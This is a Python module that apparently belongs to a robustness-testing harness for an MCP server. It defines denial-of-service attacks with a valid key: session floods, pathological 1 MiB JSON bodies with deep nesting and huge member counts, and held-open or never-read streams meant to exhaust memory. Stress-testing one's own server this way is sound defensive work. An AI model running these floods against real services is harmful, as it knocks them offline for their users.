"""Attacks with a right key: on other users, and on other clients of the same user."""

import asyncio
import secrets

import mcp
from attack import ConnectionHolder, Flood, plain
from http1 import Gone, fetch


def envelope(more):
    """A complete call of `echo` with a further argument."""
    _, body = mcp.modern("", "tools/call", {"name": "echo", "arguments": {"message": "x", "more": 0}})
    return body.replace(b'"more": 0', b'"more": ' + more)


class MadeUpSessions(Flood):
    name, what, rate = "made-up-sessions", "calls and streams with made-up session ids", 500

    def request(self, context, source, number):
        headers = mcp.headers(context.credentials["other_key"], secrets.token_urlsafe(24))
        if number % 3 == 0:
            return plain(context, source, "GET", mcp.PATH, headers)
        return plain(context, source, "POST", mcp.PATH, headers, mcp.echo("x"))


class Sessions(Flood):
    name, what, rate = "sessions", "sessions that are opened and not used", 100
    short = ("network", "one")

    def request(self, context, source, number):
        return plain(context, source, "POST", mcp.PATH, mcp.headers(context.credentials["other_key"]), mcp.initialize())


class Json(Flood):
    name, what, rate, mib = "json", "bodies of 1 MiB: deeply nested, 100,000 members, a long escaped text, a long batch", 10, 192
    connections, depth = 4, 2
    bodies = (
        b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":' + b"[" * 500_000 + b"]" * 500_000 + b"}",
        envelope(b"[" * 500_000 + b"]" * 500_000),
        envelope(b"[" * 100 + b"1" + b",1" * 400_000 + b"]" * 100),
        envelope(b"{" + b",".join(b'"%d":1' % number for number in range(100_000)) + b"}"),
        b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":' + b'{"a":' * 170_000 + b"1" + b"}" * 170_000 + b"}",
        b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"echo","arguments":{"message":"","more":{'
        + b",".join(b'"%d":1' % number for number in range(100_000)) + b"}}}}",
        b"{" + b",".join(b'"id":%d' % number for number in range(90_000)) + b"}",
        b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"echo","arguments":{"message":"' + b"\\u0041" * 170_000 + b'"}}}',
        b"[" + b",".join([b'{"jsonrpc":"2.0","id":1,"method":"ping"}'] * 25_000) + b"]",
    )

    def request(self, context, source, number):
        body = self.bodies[number % len(self.bodies)]
        headers = mcp.headers(context.credentials["other_key"])
        if number % 2:
            headers |= {"MCP-Protocol-Version": mcp.MODERN, "Mcp-Method": "tools/call", "Mcp-Name": "echo"}
        return plain(context, source, "POST", mcp.PATH, headers, body)


class Listens(ConnectionHolder):
    name, what, mib = "listens", "300 open listens of one user beside calls of the same user", 128
    most, rate = 300, 300
    shared_user = True
    key = "key"

    def begin(self, held):
        headers, body = mcp.listen(self.context.credentials[self.key])
        held.transport.write(plain(self.context, held.source, "POST", mcp.PATH, headers, body))


class SlowStreams(Listens):
    name, what = "slow-streams", "200 listens of another user that are never read, to a resource that changes 5 times a second"
    most, rate, every = 200, 200, 0.2
    receive_buffer, shared_user, key = 2048, False, "other_key"

    def begin(self, held):
        held.transport.pause_reading()
        super().begin(held)

    def more(self, held):
        if held.number == 1:
            asyncio.ensure_future(self.count_up())

    async def count_up(self):
        headers, body = mcp.modern(self.context.credentials[self.key], "tools/call", {"name": "count_up", "arguments": {}})
        try:
            await fetch(self.context.target, self.context.source(0), "POST", mcp.PATH, headers, body)
        except Gone:
            self.context.outcomes["changes that failed"] += 1


class SlowAnswers(ConnectionHolder):
    name, what, mib = "slow-answers", "100 answers of 1 MiB to another user that are never read", 192
    most, rate, receive_buffer = 100, 25, 2048

    def begin(self, held):
        held.transport.pause_reading()
        headers, body = mcp.modern_echo(self.context.credentials["other_key"], "x" * (1 << 20))
        held.transport.write(plain(self.context, held.source, "POST", mcp.PATH, headers, body))


ATTACKS = (MadeUpSessions, Sessions, Json, Listens, SlowStreams, SlowAnswers)
